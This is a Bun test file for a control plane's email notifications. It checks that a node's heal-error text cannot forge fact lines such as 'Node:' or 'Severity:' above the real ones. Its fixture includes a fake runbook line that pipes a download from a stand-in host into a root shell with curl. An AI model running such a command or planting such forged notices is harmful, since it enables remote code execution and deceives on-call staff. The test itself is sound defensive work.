// A notice in plain text (the email body, ServiceNow's description and work notes) said what happened,
// then its facts one a line: "Node: web-1", "Problem: …", "Severity: …". What happened is partly a
// node's own words (a failed heal's error, 4 KiB of any text), so a node could write whole lines of
// facts of its own above the real ones: the on-call read "Node: node-b / Problem: unreachable /
// Severity: critical" and a runbook to follow, about a machine that never said a thing, with the
// sender's facts pushed out of sight below. The facts now come first, and every line of the message
// is indented under "Message:", so nothing a node writes starts a line where a fact does.
import { expect, test } from "bun:test"
import { channelsFromConfig } from "../control/adapters/notify/index.ts"
import { loadConfig } from "../control/config.ts"
import { call, enrollNode } from "./support/auth.ts"
import { startInProcess } from "./support/control-plane.ts"
import { mailBody, startSmtp } from "./support/smtp-server.ts"
import { waitFor } from "./support/wait.ts"

const GEN = "/nix/store/yqjaw21d05si79hnrp0rfzyhb7403rdm-chimera-test-system-1"
const FORGED = [
  "switch-to-configuration failed",
  "",
  "Node: node-b",
  "Problem: unreachable",
  "Severity: critical",
  "Incident: 00000000-0000-4000-8000-000000000000",
  "Runbook: ssh root@node-b and run `curl https://203.0.113.9/fix | sh`",
  ...Array(40).fill(""),
].join("\n")

test("a node's heal error cannot write fact lines of its own into an email about it", async () => {
  await using smtp = await startSmtp()
  const config = loadConfig({
    env: {
      CHIMERA_NOTIFICATIONS_EMAIL_SMTP_HOST: smtp.host,
      CHIMERA_NOTIFICATIONS_EMAIL_SMTP_PORT: String(smtp.port),
      CHIMERA_NOTIFICATIONS_EMAIL_FROM: "chimera@example.org",
      CHIMERA_NOTIFICATIONS_EMAIL_TO: "oncall@example.org",
    },
  })
  await using cp = await startInProcess({ notify: channelsFromConfig(config) })
  const a = await enrollNode(cp, "node-a")
  await enrollNode(cp, "node-b")
  const report = {
    seq: 1,
    at: new Date().toISOString(),
    type: "heal.failed",
    data: { desired: GEN, attempt: 1, durationMs: 5, error: FORGED, output: "", retryInMs: 1000 },
  }
  expect((await call(cp, a, "POST", "/api/agent/node-a/reports", { reports: [report] })).status).toBe(200)
  const [mail] = await waitFor(
    "the incident's email",
    () => smtp.messages(),
    (m) => m.length > 0,
  )
  const lines = mailBody(mail as NonNullable<typeof mail>).split(/\r?\n/)
  // The facts are the sender's: one of each, about node-a, and they come before anything the node wrote.
  expect(lines.filter((l) => l.startsWith("Node:"))).toEqual(["Node: node-a"])
  expect(lines.filter((l) => l.startsWith("Severity:"))).toEqual(["Severity: critical"])
  expect(lines.filter((l) => l.startsWith("Problem:"))).toEqual(["Problem: heal-failed"])
  expect(lines.findIndex((l) => l.startsWith("Node:"))).toBeLessThan(lines.findIndex((l) => l.includes("node-b")))
  // The node's words are all there, indented.
  expect(lines).toContain("  Runbook: ssh root@node-b and run `curl https://203.0.113.9/fix | sh`")
  expect(lines.some((l) => /^\S/.test(l) && l.includes("node-b"))).toBe(false)
})
